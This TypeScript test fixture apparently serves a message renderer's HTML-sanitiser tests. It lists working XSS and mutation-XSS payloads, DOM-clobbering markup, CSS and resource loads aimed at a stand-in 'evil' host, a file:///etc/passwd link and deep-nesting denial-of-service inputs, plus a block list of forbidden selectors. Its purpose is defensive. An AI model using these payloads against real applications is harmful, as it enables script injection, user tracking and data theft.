import { HOSTILE } from '../unit/window/support/hostile-html.ts';

/** What a script in a message would do first. */
const ACT = "window.ran=1;try{top.ran=1}catch{}document.title='ran';alert(1)";

/** HTML that acts, fetches from `evil`, or breaks out of what it stands in, where a program lets it; one piece a message. */
export function actingHtml(evil: string): readonly string[] {
  return [...HOSTILE.map((piece) => piece.replaceAll('https://evil.example', evil)), ...more(evil)];
}

function more(evil: string): readonly string[] {
  const away = `url(${evil}/css)`;
  return [
    `<script src="${evil}/a.js"></script><script>${ACT}</script>`,
    `<img src="x" onerror="${ACT}"><body onload="${ACT}"><p onmouseover="${ACT}">over</p>`,
    `<a href="JaVaScRiPt:${ACT}">a</a><a href=" &#14; javascript:${ACT}">b</a><a href="data:text/html,<script>${ACT}</script>">c</a>`,
    `<a href="vbscript:x">d</a><a href="file:///etc/passwd">e</a><a href="blob:x">f</a><a href="app://bundle/index.html">g</a>`,
    `<meta http-equiv="refresh" content="0;url=${evil}/refresh"><base href="${evil}/"><a href="relative">r</a><img src="relative.png">`,
    `<link rel="prefetch" href="${evil}/p"><link rel="preconnect" href="${evil}"><link rel="dns-prefetch" href="//evil.example">`,
    `<form action="${evil}/f" method="post"><input type="submit" autofocus onfocus="${ACT}"></form>`,
    `<iframe srcdoc="<script>${ACT}</script>"></iframe><object data="data:text/html,<script>${ACT}</script>"></object><embed src="${evil}/e">`,
    `<svg><script>${ACT}</script><image href="${evil}/svg"/><use href="${evil}/u#x"/><foreignObject><img src=x onerror="${ACT}"></foreignObject></svg>`,
    `<math><mi xlink:href="javascript:${ACT}">x</mi><annotation-xml encoding="text/html"><img src=x onerror="${ACT}"></annotation-xml></math>`,
    `<style>@import "${evil}/i.css";@import ${away};@font-face{font-family:x;src:${away}}p{font-family:x;background:${away};position:fixed;top:0}</style>`,
    `<p style="position:fixed;inset:0;background:${away};cursor:${away};content:${away};behavior:${away};-moz-binding:${away}">cover</p>`,
    `<p style="background:u\\72l(${evil}/esc);background-image:image-set('${evil}/set' 1x);position:fi\\78 ed">escapes</p>`,
    `<p style="width:e/**/xpression(alert(1));--x:${away};background:var(--x)">variables</p>`,
    `<style>a{}</sty<b></style></b><img src=x onerror="${ACT}"></style>after`,
    `<style><!--</style><img src=x onerror="${ACT}">--></style>`,
    `<img srcset="${evil}/1x 1x, ${evil}/2x 2x" alt="set"><picture><source srcset="${evil}/p"><img alt="p"></picture>`,
    `<a href="https://ok.example/" ping="${evil}/ping" target="_top">ping</a><table background="${evil}/bg"><td background="${evil}/td">cell</td></table>`,
    `<video src="${evil}/v" autoplay></video><audio src="${evil}/a" autoplay></audio><track src="${evil}/t">`,
    `<noscript><p title="</noscript><img src=x onerror=${ACT}>"></noscript>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${ACT}&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${ACT}">`,
    `<svg></p><style><a id="</style><img src=1 onerror=${ACT}>">`,
    `<template><style></template><img src=x onerror="${ACT}"></style></template>`,
    `<select><style></select><img src=x onerror="${ACT}"></style></select><xmp></xmp><img src=x onerror="${ACT}">`,
    `<p id="document"></p><form name="body"></form><img name="createElement"><a id="retinue"></a><p id="ran">clobbers</p>`,
    `<dialog open>modal</dialog><p popover id="pop">pop</p><marquee onstart="${ACT}">m</marquee><plaintext>${ACT}`,
    `<p>text <!-- an open comment <img src=x onerror="${ACT}">`,
    `${'<div>'.repeat(10_000)}deep${'</div>'.repeat(10_000)}`,
    `${'<b><i>'.repeat(3000)}formatted`,
    `<p style="width:${'calc('.repeat(20_000)}1px">calc</p><style>${'@media screen{'.repeat(20_000)}</style>`,
    `${'<meta '.repeat(60_000)}<p>metas</p>`,
    `<style>${':root{'.repeat(60_000)}</style><p>roots</p>`,
    `<style>${':root{/*}*/'.repeat(60_000)}</style><p>roots behind comments</p>`,
    `<p style="color:${'color-mix(in srgb,'.repeat(5000)}red">mix</p><p style="--x:${'var(--y,'.repeat(60_000)}">var</p>`,
    `<picture><source media="${'(not '.repeat(60_000)}" srcset="x"></picture><p>media</p>`,
    `<table>${'<tr><td>'.repeat(5000)}cells`,
  ];
}

/** What may not be in a shown message: selectors of elements and attributes. */
export const ACTING =
  'script,svg,math,iframe,object,embed,form,input,button,base,link,video,audio,track,template,dialog,marquee,' +
  '[srcset],[ping],[background],[onload],[onerror],[onclick],[onmouseover],[popover],[autofocus],' +
  'a[href^="javascript:" i],a[href^="data:" i],a[href^="file:" i],a[href^="app:" i],meta[http-equiv="refresh" i]';
